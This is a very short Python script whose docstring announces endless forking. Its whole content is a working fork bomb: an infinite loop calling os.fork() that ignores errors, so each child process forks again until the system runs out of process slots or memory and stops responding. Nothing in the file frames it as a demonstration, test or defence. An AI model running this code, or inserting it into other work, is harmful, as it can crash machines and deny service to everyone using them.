"""Fork without end, in all children too."""

import os

while True:
    try:
        os.fork()
    except OSError:
        pass
